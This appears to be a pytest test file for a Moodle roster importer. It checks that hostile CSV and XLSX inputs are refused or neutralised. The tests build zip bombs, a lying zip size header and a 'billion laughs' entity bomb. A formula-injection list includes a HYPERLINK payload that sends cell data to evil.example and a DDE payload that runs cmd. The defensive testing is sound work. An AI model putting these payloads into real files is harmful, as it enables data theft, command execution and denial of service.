"""Hostile roster files (issue 6, "Bad input and secrets").

A roster far bigger than usual streams within the memory target; a zip bomb or a huge XLSX is
refused with a message before it is unpacked; formula payloads stay data and are escaped in
every export; control characters, right-to-left marks and other invisible characters are
removed (with a warning) or the row is refused with a clear reason; NIPs written with
non-ASCII digits are refused; a name too long for Moodle is refused, never cut; and files
that hold nothing (empty, only a BOM, only a header) are told apart.

The big-roster test reads 30 MiB in CI. The full 200 MiB roster of the issue (about 233,000
people, the whole ministry, with wide rows) runs with::

    MOODLE_BRIDGE_HOSTILE_FULL=1 .venv/bin/pytest tests/hostile/test_hostile_files.py -k big
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import os
import struct
import subprocess
import sys
import textwrap
import threading
import time
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from moodle_bridge.reports import ReportInputs, build_reports
from moodle_bridge.reports.exports import FORMULA_PREFIXES, csv_bytes, escape_cell, xlsx_bytes
from moodle_bridge.roster.generic import RosterResult, read_generic_roster
from moodle_bridge.roster.nip import normalise_nip
from moodle_bridge.roster.sources import (
    MAX_XLSX_UNCOMPRESSED,
    SourceError,
    UnsafeWorkbook,
    read_rows,
)
from plugins.bimas_islam import BimasIslamMapper
from plugins.generic import GenericMapper
from plugins.pendis import PendisMapper

FULL = os.environ.get("MOODLE_BRIDGE_HOSTILE_FULL") == "1"
MiB = 1 << 20
HEADER = ["nip", "nama", "email", "unit", "satker", "jabatan", "golongan", "status"]
NIP = "198001012005011001"
INVISIBLE_REMOVED = "Invisible characters"


def nip(i: int) -> str:
    """A valid, unique PNS NIP for ``i`` < 9,000,000."""
    born = dt.date(1960, 1, 1) + dt.timedelta(days=i // 900)
    return f"{born:%Y%m%d}{born.year + 25}03{1 + i % 2}{i % 900 + 1:03d}"


def write_roster(path: Path, rows: list[dict[str, str]], *, encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as out:
        writer = csv.DictWriter(out, fieldnames=HEADER, extrasaction="ignore")
        writer.writeheader()
        for row in rows:
            writer.writerow({"unit": "PENDIS", **row})
    return path


def one(tmp_path: Path, name: str, **cells: str) -> RosterResult:
    """Read a roster of one row whose name is ``name``."""
    path = write_roster(tmp_path / "one.csv", [{"nip": NIP, "nama": name, **cells}])
    return read_generic_roster(path)


def within(seconds: float, call: Callable[[], Any]) -> Any:
    """Run ``call`` in a thread; fail when it takes longer than ``seconds`` (a hang)."""
    box: dict[str, Any] = {}

    def work() -> None:
        try:
            box["value"] = call()
        except BaseException as exc:
            box["error"] = exc

    worker = threading.Thread(target=work, daemon=True)
    worker.start()
    worker.join(seconds)
    assert not worker.is_alive(), f"still running after {seconds} s"
    if "error" in box:
        raise box["error"]
    return box["value"]


# --- a big roster ------------------------------------------------------------------------------
MEASURE = textwrap.dedent(
    """
    import gc, json, resource, sys, time
    from pathlib import Path
    from plugins.generic import GenericMapper
    mapper = GenericMapper()
    gc.collect()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    result = mapper.read_roster(Path(sys.argv[1]))
    seconds = time.monotonic() - started
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"people": len(result.people), "errors": len(result.errors),
                      "rows": result.rows, "growth_kib": after - before, "seconds": seconds}))
    """
)
#: Memory the reader may use beyond its results: buffers, memos, the interpreter's arenas.
FIXED_MIB = 48
#: Memory per accepted person (a Person and its strings measured ~0.8 KiB).
PER_PERSON_KIB = 1.5
#: The issue's target for every step of a full ministry run.
TARGET_MIB = 1024


def big_roster(path: Path, size: int, pad: int) -> int:
    """Write a generic roster of about ``size`` bytes; ``pad`` characters of an ignored column
    per row make rows wide (a real export carries many columns the bridge does not read)."""
    units = ("PENDIS", "PENDIS", "PENDIS", "SETJEN", "BIMAS_ISLAM")
    filler = "x" * pad
    written = 0
    count = 0
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(",".join([*HEADER, "keterangan"]) + "\n")
        while written < size:
            lines = []
            for i in range(count, count + 2000):
                lines.append(
                    f'{nip(i)},"Dr. H. Ahmad Pegawai{i} Santoso, M.Pd.I.",p{i}@kemenag.example,'
                    f"{units[i % 5]},Kanwil Provinsi {i % 34},Analis SDM Aparatur,III/a,AKTIF,"
                    f"{filler}\n"
                )
            chunk = "".join(lines)
            out.write(chunk)
            written += len(chunk)
            count += 2000
    return count


SHAPES = [
    pytest.param(30 * MiB, 0, id="30MiB-dense"),  # ~210,000 people: the ministry's scale
    pytest.param(30 * MiB, 2000, id="30MiB-wide"),  # ~14,000 people with 2 KB rows
]
if FULL:
    SHAPES.append(pytest.param(200 * MiB, 760, id="200MiB-ministry"))  # ~233,000 people


@pytest.mark.parametrize(("size", "pad"), SHAPES)
def test_a_big_roster_streams_within_the_memory_target(tmp_path: Path, size: int, pad: int):
    path = tmp_path / "big.csv"
    count = big_roster(path, size, pad)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path)],
        capture_output=True, text=True, env=env, timeout=600, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    figures = json.loads(done.stdout)
    assert figures["people"] == count
    assert figures["errors"] == 0
    growth_mib = figures["growth_kib"] / 1024
    bound_mib = FIXED_MIB + PER_PERSON_KIB * count / 1024
    assert growth_mib < bound_mib, (
        f"reading {path.stat().st_size / MiB:.0f} MiB ({count} people) grew the process by "
        f"{growth_mib:.0f} MiB, more than {bound_mib:.0f} MiB"
    )
    assert growth_mib < TARGET_MIB


def test_one_endless_line_is_refused_quickly(tmp_path: Path):
    """30 MiB without a line break: one cell bigger than any CSV field may be."""
    path = tmp_path / "line.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write("nip,nama,unit\n")
        for _ in range(30):
            out.write("A" * MiB)
    with pytest.raises(SourceError, match="row 2 cannot be read"):
        within(60, lambda: read_generic_roster(path))


def test_an_unclosed_quote_is_refused_not_swallowed(tmp_path: Path):
    rows = "\n".join(f"{nip(i)},Ahmad Santoso,PENDIS" for i in range(50_000))
    path = tmp_path / "quote.csv"
    path.write_text(f'nip,nama,unit\n{NIP},"Ahmad Santoso,PENDIS\n{rows}\n', encoding="utf-8")
    with pytest.raises(SourceError, match="quotation mark"):
        within(60, lambda: read_generic_roster(path))


# --- zip bombs and huge workbooks --------------------------------------------------------------
def small_workbook() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append([NIP, "Ahmad Fauzi", "", "PENDIS"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rebuild(original: bytes, replace: dict[str, Callable[[zipfile.ZipFile], None]]) -> bytes:
    """The workbook with the members in ``replace`` written by their callbacks instead."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename in replace:
                replace[info.filename](target)
            else:
                target.writestr(info, source.read(info.filename))
    return out.getvalue()


def bomb_sheet(size: int) -> Callable[[zipfile.ZipFile], None]:
    """A sheet of ``size`` bytes of the same row over and over: inflates ~1000 times."""

    def write(target: zipfile.ZipFile) -> None:
        row = f'<row r="2"><c r="A2" t="inlineStr"><is><t>{NIP}</t></is></c></row>'.encode()
        chunk = row * (MiB // len(row))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats'
                b'.org/spreadsheetml/2006/main"><sheetData>'
            )
            for _ in range(size // len(chunk)):
                member.write(chunk)
            member.write(b"</sheetData></worksheet>")

    return write


READERS = {
    "generic": GenericMapper().read_roster,
    "pendis": PendisMapper().read_roster,
    "bimas_islam": BimasIslamMapper().read_roster,
}


@pytest.mark.parametrize("reader", sorted(READERS))
def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, reader: str):
    path = tmp_path / "bom.xlsx"
    path.write_bytes(rebuild(small_workbook(), {"xl/worksheets/sheet1.xml": bomb_sheet(96 * MiB)}))
    assert path.stat().st_size < 2 * MiB
    started = time.monotonic()
    with pytest.raises(UnsafeWorkbook, match=r"refused: xl/worksheets/sheet1\.xml would expand"):
        within(30, lambda: READERS[reader](path))
    assert time.monotonic() - started < 5, "the check must not inflate the sheet"


def patch_declared_size(data: bytes, member: str, size: int) -> bytes:
    """Make the archive *declare* ``size`` uncompressed bytes for ``member`` (a lying header,
    the classic bomb trick), in both the local and the central directory header."""
    blob = bytearray(data)
    name = member.encode()
    central = 0
    while True:
        central = blob.find(b"PK\x01\x02", central + 1)
        assert central != -1, member
        name_length = struct.unpack_from("<H", blob, central + 28)[0]
        if blob[central + 46 : central + 46 + name_length] == name:
            break
    struct.pack_into("<I", blob, central + 24, size)
    local = struct.unpack_from("<I", blob, central + 42)[0]
    struct.pack_into("<I", blob, local + 22, size)
    return bytes(blob)


def test_a_lying_size_header_is_refused(tmp_path: Path):
    path = tmp_path / "lie.xlsx"
    path.write_bytes(patch_declared_size(small_workbook(), "xl/worksheets/sheet1.xml", 0xFFFFFFF0))
    with pytest.raises(UnsafeWorkbook, match="refused"):
        within(30, lambda: GenericMapper().read_roster(path))


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused(tmp_path: Path):
    """Many members of 1 MiB each: below the ratio check's floor, above the total limit."""
    zeros = bytes(MiB)

    def many(target: zipfile.ZipFile) -> None:
        target.writestr("xl/worksheets/sheet1.xml", small_sheet_xml())
        for i in range(MAX_XLSX_UNCOMPRESSED // MiB + 8):
            target.writestr(f"xl/media/padding{i}.bin", zeros, compresslevel=1)

    path = tmp_path / "huge.xlsx"
    path.write_bytes(rebuild(small_workbook(), {"xl/worksheets/sheet1.xml": many}))
    with pytest.raises(UnsafeWorkbook, match=r"would unpack to \d+ MiB, more than the limit"):
        within(30, lambda: GenericMapper().read_roster(path))


def small_sheet_xml() -> bytes:
    with zipfile.ZipFile(io.BytesIO(small_workbook())) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def laughs_workbook(where: str, text: str = "&l9;") -> bytes:
    """A workbook whose shared strings or sheet XML hold a 'billion laughs' entity bomb:
    nine levels of ten references each, a few bytes that expand to about 1 GB of text."""
    laughs = '<!ENTITY l0 "hahahahahahahahahaha">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    head = f'<?xml version="1.0"?><!DOCTYPE x [{laughs}]>'
    header_row = (
        '<row r="1">'
        + "".join(
            f'<c r="{col}1" t="inlineStr"><is><t>{name}</t></is></c>'
            for col, name in zip("ABCD", ("nip", "nama", "email", "unit"), strict=True)
        )
        + "</row>"
    )
    if where == "shared strings":
        name_cell = '<c r="B2" t="s"><v>0</v></c>'
        prolog = '<?xml version="1.0"?>'
    else:
        name_cell = f'<c r="B2" t="inlineStr"><is><t>{text}</t></is></c>'
        prolog = head
    sheet = (
        f'{prolog}<worksheet xmlns="{SHEET_NS}"><sheetData>{header_row}<row r="2">'
        f'<c r="A2" t="inlineStr"><is><t>{NIP}</t></is></c>{name_cell}'
        '<c r="D2" t="inlineStr"><is><t>PENDIS</t></is></c></row></sheetData></worksheet>'
    )
    shared = f'{head}<sst xmlns="{SHEET_NS}" count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'

    def types(target: zipfile.ZipFile) -> None:
        with zipfile.ZipFile(io.BytesIO(small_workbook())) as source:
            text = source.read("[Content_Types].xml").decode()
        override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SHARED_TYPE}"/>'
        target.writestr("[Content_Types].xml", text.replace("</Types>", override + "</Types>"))
        target.writestr("xl/sharedStrings.xml", shared)

    return rebuild(
        small_workbook(),
        {
            "xl/worksheets/sheet1.xml": lambda t: t.writestr("xl/worksheets/sheet1.xml", sheet),
            "[Content_Types].xml": types,
        },
    )


@pytest.mark.parametrize("where", ["shared strings", "sheet"])
def test_an_entity_expansion_bomb_is_refused(tmp_path: Path, where: str):
    """'Billion laughs' inside the workbook's XML: a SourceError, quickly, never GiBs."""
    path = tmp_path / "laughs.xlsx"
    path.write_bytes(laughs_workbook(where))
    started = time.monotonic()
    with pytest.raises(SourceError, match=r"laughs\.xlsx"):
        within(30, lambda: GenericMapper().read_roster(path))
    assert time.monotonic() - started < 10


def test_the_entity_bomb_workbook_is_otherwise_readable(tmp_path: Path):
    """The same workbook without the bomb reads: the refusal above is about the entities."""
    for where in ("shared strings", "sheet"):
        path = tmp_path / "plain.xlsx"
        path.write_bytes(laughs_workbook(where, "Ahmad &l0; Fauzi"))
        [person] = GenericMapper().read_roster(path).people
        assert person.display_name == "Ahmad hahahahahahahahahaha Fauzi"


# --- formula payloads ---------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1;"Klik")',
    "+Ahmad Fauzi",
    "-Budi Santoso",
    "@Citra Dewi",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1) Dedi",
    "@SUM(A1:A9)",
]


def test_formula_payloads_in_a_csv_are_kept_as_data_and_escaped_in_every_export(tmp_path: Path):
    rows = [
        {"nip": nip(i), "nama": name, "satker": "=1+2 Kanwil", "jabatan": "@Analis"}
        for i, name in enumerate(FORMULAS)
    ]
    result = read_generic_roster(write_roster(tmp_path / "formula.csv", rows))
    assert result.errors == []
    assert [p.display_name for p in result.people] == FORMULAS  # data, as written
    for person in result.people:
        assert person.satker == "=1+2 Kanwil"
        assert person.jabatan == "@Analis"

    everyone = ReportInputs(unit="ALL", year=2025)
    files = build_reports(result.people, [], everyone, tmp_path / "out")
    written = [files.people_csv, files.siasn_csv]
    cells: list[str] = []
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [c for row in csv.reader(handle) for c in row]
    for path in (files.people_xlsx, files.siasn_xlsx):
        book = openpyxl.load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
    assert cells, "the exports are empty"
    unescaped = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert unescaped == [], f"cells that a spreadsheet would run as formulas: {unescaped}"
    for name in FORMULAS:
        assert "'" + name in cells, f"{name!r} is missing from the exports (or not escaped)"


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_escape_cell_defuses_every_formula_prefix(prefix: str):
    value = f"{prefix}1+1"
    assert escape_cell(value) == "'" + value
    text = csv_bytes(["nama"], [[value]]).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text, newline=""), strict=True)) == ["nama"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["nama"], [[value]])))
    cell = book.worksheets[0]["A2"]
    assert cell.data_type != "f"
    assert str(cell.value).startswith("'")


def test_formulas_in_a_workbook_are_never_evaluated(tmp_path: Path):
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append([nip(1), '=CONCATENATE("Ahmad"," Fauzi")', "", "PENDIS"])  # a real formula
    sheet.append([nip(2), "Budi Santoso", '=LOWER("X@Y.ID")', "PENDIS"])
    text = sheet.cell(row=4, column=2, value="=Citra Dewi")  # text that looks like one
    text.data_type = "s"
    sheet.cell(row=4, column=1, value=nip(3))
    sheet.cell(row=4, column=4, value="PENDIS")
    path = tmp_path / "formula.xlsx"
    book.save(path)

    result = read_generic_roster(path)
    by_row = {p.row: p for p in result.people}
    errors = {e.row: e for e in result.errors}
    # The formula has no cached value: its cell reads as empty, never as "Ahmad Fauzi".
    assert 2 in errors
    assert errors[2].column == "nama"
    assert "Ahmad" not in str(result)
    # A formula in the email cell is not evaluated either: no email, not x@y.id.
    assert by_row[3].email is None
    assert by_row[4].display_name == "=Citra Dewi"


# --- invisible characters -----------------------------------------------------------------------
CLEANED = {
    "right-to-left override": "Ahmad \u202eFauzi",
    "right-to-left mark": "Ahmad\u200f Fauzi",
    "left-to-right isolate": "\u2066Ahmad\u2069 Fauzi",
    "arabic letter mark": "\u061cAhmad Fauzi",
    "zero width space": "Ahmad Fau\u200bzi",
    "bell": "Ahmad Fau\x07zi",
    "nul": "Ahmad\x00 Fauzi",
    "escape": "Ahmad\x1b Fauzi",
    "delete": "Ahmad Fauzi\x7f",
    "c1 control": "Ahmad\x85 Fauzi",
    "byte order mark": "\ufeffAhmad Fauzi",
    "soft hyphen": "Ah\u00admad Fauzi",
}


def invisible(text: str) -> list[str]:
    """Characters of ``text`` that are controls, formatting or default-ignorable fillers."""
    fillers = {"\u115f", "\u1160", "\u3164", "\uffa0", "\u034f"}
    return [
        f"U+{ord(ch):04X}"
        for ch in text
        if unicodedata.category(ch) in ("Cc", "Cf")
        or ch in fillers
        or 0xE0000 <= ord(ch) <= 0xE0FFF
    ]


@pytest.mark.parametrize("name", CLEANED.values(), ids=CLEANED.keys())
def test_control_and_bidi_characters_are_removed_with_a_warning(tmp_path: Path, name: str):
    result = one(tmp_path, name)
    assert result.errors == []
    [person] = result.people
    assert (person.firstname, person.lastname) in (("Ahmad", "Fauzi"), ("AhmadFauzi",) * 2)
    assert invisible(person.display_name) == []
    assert any(INVISIBLE_REMOVED in w for w in person.warnings)
    assert any(w.column == "nama" and INVISIBLE_REMOVED in w.reason for w in result.warnings)


def test_bidi_marks_in_other_columns_are_removed_too(tmp_path: Path):
    result = one(
        tmp_path, "Ahmad Fauzi", email="ahmad\u200f@kemenag.example", satker="\u202eKanwil"
    )
    [person] = result.people
    assert person.email == "ahmad@kemenag.example"
    assert person.satker == "Kanwil"
    assert {w.column for w in result.warnings} >= {"email", "satker"}


HIDDEN = {
    "tag characters after the name": "Ahmad Fauzi\U000e0041\U000e0042",
    "tag characters as the last name": "Ahmad \U000e0069\U000e0067\U000e006e",
    "language tag": "\U000e0001Ahmad Fauzi",
    "hangul filler as the whole name": "\u3164",
    "hangul fillers as two words": "\u3164 \u3164",
    "halfwidth hangul filler": "\uffa0",
    "hangul choseong and jungseong fillers": "\u115f\u1160 Ahmad",
    "combining grapheme joiner": "Ahmad\u034f Fauzi",
}


@pytest.mark.parametrize("name", HIDDEN.values(), ids=HIDDEN.keys())
def test_other_invisible_characters_never_reach_moodle_unnoticed(tmp_path: Path, name: str):
    """Characters that show as nothing (Unicode default-ignorable: tag characters, Hangul
    fillers) must be removed with a warning, or the row refused: otherwise a name that looks
    blank, or carries hidden text, becomes a Moodle firstname/lastname."""
    result = one(tmp_path, name)
    if result.errors:
        [error] = result.errors
        assert error.column == "nama"
        assert error.reason
        return
    [person] = result.people
    leftover = invisible(person.firstname + person.lastname + person.display_name)
    assert leftover == [], (
        f"{name!r} became firstname {person.firstname!r} / lastname {person.lastname!r} "
        f"with invisible {leftover} and warnings {person.warnings}"
    )
    assert any(INVISIBLE_REMOVED in w for w in person.warnings)


def test_a_name_of_only_invisible_characters_is_refused(tmp_path: Path):
    result = one(tmp_path, "\u200f\u202e\u200b")
    assert result.people == []
    [error] = result.errors
    assert error.column == "nama"
    assert "empty" in error.reason or "no letters" in error.reason


# --- NIPs in other digits -----------------------------------------------------------------------


def in_digits(text: str, zero: int) -> str:
    """``text`` with its ASCII digits written in the script whose zero is ``zero``."""
    return "".join(chr(zero + int(ch)) if ch.isdigit() else ch for ch in text)


UNICODE_NIPS = {
    "arabic-indic": in_digits(NIP, 0x0660),
    "extended arabic-indic": in_digits(NIP, 0x06F0),
    "fullwidth": in_digits(NIP, 0xFF10),
    "devanagari": in_digits(NIP, 0x0966),
    "mathematical bold": in_digits(NIP, 0x1D7CE),
    "one arabic-indic digit": NIP[:-1] + in_digits(NIP[-1], 0x0660),
    "fullwidth with spaces": in_digits("19800101 200501 1 001", 0xFF10),
}


@pytest.mark.parametrize("value", UNICODE_NIPS.values(), ids=UNICODE_NIPS.keys())
def test_a_nip_in_unicode_digits_is_refused(tmp_path: Path, value: str):
    checked = normalise_nip(value)
    assert checked.nip is None
    assert checked.error is not None
    assert "0-9" in checked.error
    path = write_roster(tmp_path / "nip.csv", [{"nip": value, "nama": "Ahmad Fauzi"}])
    result = read_generic_roster(path)
    assert result.people == []
    [error] = result.errors
    assert error.column == "nip"
    assert "0-9" in error.reason
    assert value not in error.reason  # reasons never repeat the NIP


# --- lengths ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [
        "A" * 150,
        "Ahmad " + "B" * 149,
        " ".join(["Ahmad"] * 25) + " Fauzi",  # 150 characters of first name
        "Dr. H. " + "C" * 150 + ", M.Pd.",
    ],
    ids=["one-word", "long-lastname", "many-words", "with-titles"],
)
def test_a_name_too_long_for_moodle_is_refused_not_cut(tmp_path: Path, name: str):
    result = one(tmp_path, name)
    assert result.people == []
    [error] = result.errors
    assert error.column == "nama"
    assert "Moodle allows 100" in error.reason


def test_a_name_of_exactly_100_characters_per_part_is_kept(tmp_path: Path):
    name = "A" * 100 + " " + "B" * 100
    [person] = one(tmp_path, name).people
    assert (person.firstname, person.lastname) == ("A" * 100, "B" * 100)


# --- files that hold nothing --------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [b"", codecs.BOM_UTF8, codecs.BOM_UTF8 + b"\r\n", b"\n\n\n", b" , , \r\n,,\n"],
    ids=["empty", "only-bom", "bom-and-newline", "blank-lines", "blank-cells"],
)
@pytest.mark.parametrize("reader", sorted(READERS))
def test_a_file_without_a_header_is_refused(tmp_path: Path, content: bytes, reader: str):
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    with pytest.raises(SourceError, match="the file is empty"):
        READERS[reader](path)


def test_an_empty_assessment_file_is_refused(tmp_path: Path):
    path = tmp_path / "assessments.csv"
    path.write_bytes(codecs.BOM_UTF8)
    with pytest.raises(SourceError, match="the file is empty"):
        GenericMapper().read_assessments(path)


HEADERS_ONLY = {
    "generic": "nip,nama,email,unit,satker,jabatan,golongan,status",
    "pendis": "NIP;Nama Lengkap;Gelar Depan;Gelar Belakang;Email Dinas;Satuan Kerja;Jabatan;"
    "Pangkat/Golongan;Status Pegawai;TMT Jabatan",
    "bimas_islam": "No,NIP Baru,Nama Pegawai,Jenis Kelamin,E-mail,Unit Kerja,Jabatan,"
    "Gol. Ruang,Status",
}


@pytest.mark.parametrize("reader", sorted(READERS))
@pytest.mark.parametrize("ending", ["", "\r\n", "\n\n\n"], ids=["bare", "crlf", "blank-lines"])
@pytest.mark.parametrize("bom", [b"", codecs.BOM_UTF8], ids=["no-bom", "bom"])
def test_a_header_only_file_has_no_rows(tmp_path: Path, reader: str, ending: str, bom: bytes):
    path = tmp_path / "header.csv"
    path.write_bytes(bom + (HEADERS_ONLY[reader] + ending).encode())
    result = READERS[reader](path)
    assert (result.rows, result.people, result.errors) == (0, [], [])


def test_a_header_only_workbook_has_no_rows(tmp_path: Path):
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADERS_ONLY["bimas_islam"].split(","))
    path = tmp_path / "header.xlsx"
    book.save(path)
    result = BimasIslamMapper().read_roster(path)
    assert (result.rows, result.people, result.errors) == (0, [], [])


def test_an_empty_workbook_is_refused(tmp_path: Path):
    path = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(path)
    with pytest.raises(SourceError, match="the file is empty"):
        list(read_rows(path))
